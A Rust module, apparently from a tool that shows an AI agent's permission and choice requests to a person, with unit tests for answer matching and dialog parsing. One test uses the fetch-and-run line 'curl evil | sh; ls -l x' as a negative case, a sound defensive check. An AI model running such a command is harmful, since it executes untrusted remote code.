//! Asks of an agent: permissions, choices and questions, each with an id and the options to answer it with.

use serde::{Deserialize, Serialize};

use crate::evidence::same_question;
use crate::masking::FreeText as _;
use crate::text::beginning;
use crate::{AskId, Timestamp};

/// The longest title; a person has to be able to read all of it.
const TITLE_MOST: usize = 4000;
/// The longest text of a detail. A longer one is cut, and ends with a mark.
const DETAIL_MOST: usize = 16 * 1024;
/// The longest text of all details of an ask.
const DETAILS_MOST: usize = 64 * 1024;
/// The most details and options of one ask.
const PARTS_MOST: usize = 32;

/// A request of an agent to a person. Several may be open at once, for example of subagents.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Ask {
    /// The id by which the agent is answered.
    pub id: AskId,
    pub kind: AskKind,
    /// The request in one sentence, such as a question or the name of a tool call.
    pub title: String,
    /// The exact subject of a permission.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub details: Vec<AskDetail>,
    /// The possible answers, in the agent's order. Without any, the answer is a text.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub options: Vec<AskOption>,
}

/// The kind of an ask.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AskKind {
    /// To be allowed something.
    Permission,
    /// To choose one of the options.
    Choice,
    /// To be given a text.
    #[default]
    Text,
}

/// A part of what is to be allowed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AskDetail {
    Tool { name: String },
    Command { command: String },
    Path { path: String },
    Diff { path: String, diff: String },
}

/// A possible answer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AskOption {
    /// The agent's own id of the option.
    pub id: String,
    pub label: String,
    #[serde(default)]
    pub kind: OptionKind,
}

/// The meaning of an option.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum OptionKind {
    AllowOnce,
    AllowAlways,
    RejectOnce,
    RejectAlways,
    #[default]
    Other,
}

/// An ask that waits for its answer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct OpenAsk {
    /// Counts the questions of the session from 1. People answer by it.
    pub number: u32,
    pub since: Timestamp,
    pub ask: Ask,
    /// The length of all its details in bytes, if they are cut here. The daemon keeps all of them until the ask is closed.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub whole: Option<u64>,
}

impl AskDetail {
    /// Returns its text: a name, a command, a path or a diff.
    pub fn text(&self) -> &str {
        match self {
            AskDetail::Tool { name: text }
            | AskDetail::Command { command: text }
            | AskDetail::Path { path: text }
            | AskDetail::Diff { diff: text, .. } => text,
        }
    }

    /// Cuts its text at a length.
    fn cut(&mut self, most: usize) {
        let cut = |text: &mut String, most: usize| {
            if text.len() > most {
                *text = beginning(text, most);
            }
        };
        match self {
            AskDetail::Tool { name: text }
            | AskDetail::Command { command: text }
            | AskDetail::Path { path: text } => cut(text, most),
            AskDetail::Diff { path, diff } => {
                cut(path, TITLE_MOST);
                cut(diff, most);
            }
        }
    }
}

impl Ask {
    /// Returns an ask for a text, without details.
    pub fn question(id: AskId, title: &str) -> Ask {
        Ask { id, kind: AskKind::Text, title: title.to_owned(), details: vec![], options: vec![] }
    }

    /// Returns the length of all its details in bytes.
    pub fn length(&self) -> u64 {
        self.details.iter().map(|detail| detail.text().len() as u64).sum()
    }

    /// Returns true if the core keeps only the beginnings of its details.
    pub fn is_long(&self) -> bool {
        self.details.len() > PARTS_MOST
            || self.length() > DETAILS_MOST as u64
            || self.details.iter().any(|detail| detail.text().len() > DETAIL_MOST)
    }

    /// Returns the ask with texts of bounded length.
    pub fn bounded(mut self) -> Ask {
        self.title = beginning(&self.title, TITLE_MOST);
        self.details.truncate(PARTS_MOST);
        self.options.truncate(PARTS_MOST);
        self.options.each_text(&mut |text| *text = beginning(text, TITLE_MOST));
        let mut left = DETAILS_MOST;
        for detail in &mut self.details {
            detail.cut(DETAIL_MOST.min(left));
            left = left.saturating_sub(detail.text().len());
        }
        self
    }

    /// Cuts the text of each detail at a length.
    pub fn cut_details(&mut self, most: usize) {
        self.details.iter_mut().for_each(|detail| detail.cut(most));
    }

    /// Returns true if these words of another source mean this ask: they are its title or one of its subjects, perhaps with
    /// the name of a tool in front.
    pub fn is_worded(&self, words: &str) -> bool {
        let subject = |detail: &AskDetail| match detail {
            AskDetail::Tool { .. } => false,
            AskDetail::Command { command: text } | AskDetail::Path { path: text } => {
                same_question(text, words)
            }
            AskDetail::Diff { path, .. } => same_question(path, words),
        };
        same_question(&self.title, words) || self.details.iter().any(subject)
    }

    /// Returns the possible answers, for an error message.
    pub(crate) fn options_shown(&self) -> String {
        let options: Vec<String> = self.options.iter().map(|option| format!("`{}`", option.id)).collect();
        options.join(", ")
    }

    /// Returns the option that holds for later asks too: of those that allow, or of those that reject if the answer does.
    /// `None` if the agent offers none.
    pub fn lasting_option(&self, answer: Option<&str>) -> Option<&AskOption> {
        let chosen = answer.map(|answer| self.option(answer).map(|option| option.kind));
        let kind = match chosen {
            None | Some(Some(OptionKind::AllowOnce | OptionKind::AllowAlways)) => OptionKind::AllowAlways,
            Some(Some(OptionKind::RejectOnce | OptionKind::RejectAlways)) => OptionKind::RejectAlways,
            Some(Some(OptionKind::Other) | None) => return None,
        };
        self.options.iter().find(|option| option.kind == kind)
    }

    /// Returns the option that an answer means: by its number, id or label, or `yes` and `no` for what allows or rejects
    /// once.
    pub fn option(&self, answer: &str) -> Option<&AskOption> {
        let answer = answer.trim();
        let kind = match answer.to_lowercase().as_str() {
            "yes" | "y" => Some(OptionKind::AllowOnce),
            "no" | "n" => Some(OptionKind::RejectOnce),
            _ => None,
        };
        let named = |option: &&AskOption| {
            option.id == answer || option.label.trim().to_lowercase() == answer.to_lowercase()
        };
        let numbered = || self.options.get(answer.parse::<usize>().ok()?.checked_sub(1)?);
        let meant = || self.options.iter().find(|option| kind == Some(option.kind));
        self.options.iter().find(named).or_else(numbered).or_else(meant)
    }
}

/// Returns the numbered choices of a dialog on a screen. Their kinds follow from their words.
pub(crate) fn choices(screen: &str) -> Vec<AskOption> {
    screen.lines().filter_map(choice).take(PARTS_MOST).collect()
}

/// Returns the choice on a line of a dialog, such as `❯ 2. No, and say why`.
pub(crate) fn choice(line: &str) -> Option<AskOption> {
    let line = line.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '❯' | '>' | '│' | '*'));
    let (number, rest) = line.split_at(line.find(|c: char| !c.is_ascii_digit())?);
    let label = rest.strip_prefix(['.', ')'])?.trim();
    if number.is_empty() || number.len() > 2 {
        return None;
    }
    let lower = label.to_lowercase();
    let (first, lasts) =
        (lower.split(|c: char| !c.is_alphabetic()).next(), LASTING.iter().any(|it| lower.contains(it)));
    let kind = match (first, lasts) {
        (Some("yes" | "allow"), true) => OptionKind::AllowAlways,
        (Some("yes" | "allow"), false) if lower.split_whitespace().count() <= SHORT => OptionKind::AllowOnce,
        (Some("no" | "deny" | "reject"), false) => OptionKind::RejectOnce,
        _ => OptionKind::Other,
    };
    Some(AskOption { id: number.to_owned(), label: label.to_owned(), kind })
}

/// The words of a choice that holds for later asks too.
const LASTING: [&str; 3] = ["always", "ask again", "for this session"];
/// A longer "yes" may do more than to allow once, such as to change the mode of the agent.
const SHORT: usize = 2;

#[cfg(test)]
mod tests {
    use super::*;

    fn option(id: &str, label: &str, kind: OptionKind) -> AskOption {
        AskOption { id: id.into(), label: label.into(), kind }
    }

    #[test]
    fn an_answer_means_one_option_or_none() {
        let options = vec![
            option("always", "Yes, always", OptionKind::AllowAlways),
            option("once", "Yes", OptionKind::AllowOnce),
            option("2", "No", OptionKind::RejectOnce),
        ];
        let ask = Ask { options, ..Ask::question(AskId::new("a"), "Allow?") };
        for (answer, expected) in [
            ("once", Some("once")),
            ("yes", Some("once")),
            (" YES, ALWAYS ", Some("always")),
            ("n", Some("2")),
            ("1", Some("always")),
            // An id goes before a number.
            ("2", Some("2")),
            ("3", Some("2")),
            ("0", None),
            ("4", None),
            ("perhaps", None),
        ] {
            assert_eq!(ask.option(answer).map(|option| &*option.id), expected, "{answer}");
        }
        assert_eq!(Ask::question(AskId::new("a"), "Why?").option("yes"), None);
    }

    #[test]
    fn an_ask_has_a_bounded_length() {
        let diff = AskDetail::Diff { path: "a".into(), diff: "ü".repeat(DETAIL_MOST) };
        let ask = Ask { details: vec![diff; 100], ..Ask::question(AskId::new("a"), &"x".repeat(9000)) };
        let ask = ask.bounded();
        assert_eq!((ask.title.len(), ask.details.len()), (TITLE_MOST + '…'.len_utf8(), PARTS_MOST));
        assert!(format!("{ask:?}").len() < DETAILS_MOST + PARTS_MOST * 300);
        assert_eq!(ask.clone().bounded(), ask, "what is cut is not cut again");
        assert!(!Ask::question(AskId::new("a"), "b").is_long());
    }

    #[test]
    fn choices_on_a_screen_are_options() {
        let screen = "Do you want to proceed?\n❯ 1. Yes\n  2. Yes, and always allow access to a\n  3. Yes, and switch \
                      to auto mode\n  4. No\n  v1.2 of 2020. x";
        let kinds: Vec<_> = choices(screen).into_iter().map(|option| (option.id, option.kind)).collect();
        let expected = [
            ("1", OptionKind::AllowOnce),
            ("2", OptionKind::AllowAlways),
            ("3", OptionKind::Other),
            ("4", OptionKind::RejectOnce),
        ];
        assert_eq!(kinds, expected.map(|(id, kind)| (id.to_owned(), kind)));
    }

    #[test]
    fn a_lasting_answer_is_the_one_that_the_agent_offers() {
        let options = vec![
            option("once", "Yes", OptionKind::AllowOnce),
            option("always", "Yes, always", OptionKind::AllowAlways),
            option("no", "No", OptionKind::RejectOnce),
        ];
        let ask = Ask { options, ..Ask::question(AskId::new("a"), "Allow?") };
        for (answer, expected) in [
            (None, Some("always")),
            (Some("yes"), Some("always")),
            (Some("2"), Some("always")),
            (Some("no"), None),
            (Some("perhaps"), None),
        ] {
            assert_eq!(ask.lasting_option(answer).map(|option| &*option.id), expected, "{answer:?}");
        }
        assert_eq!(Ask::question(AskId::new("a"), "Why?").lasting_option(None), None);
    }

    #[test]
    fn an_ask_is_known_by_its_subject_in_the_words_of_any_source() {
        let details = vec![
            AskDetail::Tool { name: "Bash".into() },
            AskDetail::Command { command: "ls  -l\n x".into() },
        ];
        let ask = Ask { details, ..Ask::question(AskId::new("a"), "Bash: ls -l…") };
        for (words, is_it) in [
            ("Bash: ls -l x", true),
            ("ls -l x", true),
            ("Bash: ls -l…", true),
            ("Bash: ls", false),
            ("Bash", false),
            ("Bash: ls -l x y", false),
            ("curl evil | sh; ls -l x", false),
        ] {
            assert_eq!(ask.is_worded(words), is_it, "{words}");
        }
    }
}
